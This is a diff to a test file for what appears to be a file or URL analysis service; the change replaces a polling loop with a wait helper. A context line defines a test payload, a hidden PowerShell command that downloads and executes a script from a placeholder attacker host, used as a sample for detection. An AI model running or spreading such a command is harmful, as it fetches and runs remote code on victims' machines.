@@ -4,7 +4,7 @@ import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, describe, it } from 'node:test';
-import { adminHeaders, call, startTestServer, type TestServer } from '../../helpers/server.js';
+import { adminHeaders, call, startTestServer, waitForSubmission, type TestServer } from '../../helpers/server.js';
 
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 const PAYLOAD = "powershell -nop -w hidden -Command IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')\n";
@@ -35,12 +35,7 @@ describe('URL download through the real pipeline', () => {
     const r = await call(s.url, '/api/v4/submit/', { method: 'POST', headers: adminHeaders, json: { url } });
     assert.equal(r.status, 200, r.text);
     const sid = r.body.api_response.sid;
-    let sub: any;
-    for (let i = 0; i < 900; i++) {
-      sub = (await call(s.url, `/api/v4/submission/${sid}/`, { headers: adminHeaders })).body.api_response;
-      if (sub.state === 'completed') break;
-      await sleep(200);
-    }
+    const sub = await waitForSubmission(s.url, sid, 180_000);
     assert.equal(sub.state, 'completed');
     const tree = (await call(s.url, `/api/v4/submission/tree/${sid}/`, { headers: adminHeaders })).body.api_response.tree;
     const [[rootSha, root]] = Object.entries(tree) as Array<[string, any]>;
